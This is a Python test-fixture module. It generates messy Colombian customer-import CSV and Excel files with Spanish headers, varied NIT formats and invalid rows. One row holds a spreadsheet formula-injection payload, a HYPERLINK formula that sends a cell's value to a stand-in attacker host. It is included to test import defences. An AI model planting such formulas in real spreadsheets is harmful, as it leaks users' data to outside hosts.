"""Files made the way a sales assistant makes them: a title banner above the header, Spanish
headers with accents, Latin-1 from Excel's "CSV (separado por comas)", NITs with and without
dots and check digit, a bad row or two."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from openpyxl import Workbook

HEADER = [
    "Razón social",
    "NIT",
    "Teléfono",
    "Correo",
    "Ciudad",
    "Representante legal",
    "Nombre contacto",
    "Apellido contacto",
    "Cargo",
    "Celular",
]
ROWS = [
    # two rows, one account (same NIT written two ways), two contacts
    [
        "Ferretería El Tornillo S.A.S.",
        "800.012.342",
        "601 3456789",
        "compras@tornillo.co",
        "Bogotá",
        "Martín Gómez",
        "Lucía",
        "Peña",
        "Compras",
        "310 555 1234",
    ],
    [
        "Ferretería El Tornillo S.A.S.",
        "80001234-2",
        "",
        "",
        "Bogotá",
        "",
        "Andrés",
        "Ruiz",
        "Gerente",
        "311 555 1234",
    ],
    [
        "Droguería Santa Fe",
        "900123455",
        "604 4445566",
        "info@santafe.co",
        "Medellín",
        "Ana Núñez",
        "",
        "",
        "",
        "",
    ],
    # wrong check digit and a bad e-mail: reported, not imported
    ["Panadería La Espiga", "860.034.56-9", "", "espiga@", "Cali", "", "", "", "", ""],
    # formula injection in a cell
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
        "830045674",
        "",
        "",
        "Cali",
        "",
        "",
        "",
        "",
        "",
    ],
]


def csv_text(rows: list[list[str]] | None = None, delimiter: str = ";") -> str:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(["Clientes Región Andina"] + [""] * (len(HEADER) - 1))
    writer.writerow(["Exportado del sistema anterior"])
    writer.writerows([HEADER, *(rows if rows is not None else ROWS)])
    return out.getvalue()


def latin1_csv(folder: Path, rows: list[list[str]] | None = None) -> Path:
    path = folder / "clientes.csv"
    path.write_bytes(csv_text(rows).encode("cp1252"))
    return path


def workbook(folder: Path) -> Path:
    book = Workbook()
    notes = book.active
    notes.title = "Notas"
    notes.append(["Este libro tiene los clientes en la otra hoja"])
    sheet = book.create_sheet("Clientes")
    sheet.append(["Listado de clientes 2026"])
    sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=len(HEADER))
    sheet.append(HEADER)
    for row in ROWS:  # the formula cell is a real formula in the workbook
        sheet.append([int(c) if c.isdigit() else c for c in row])
    path = folder / "clientes.xlsx"
    book.save(path)
    return path
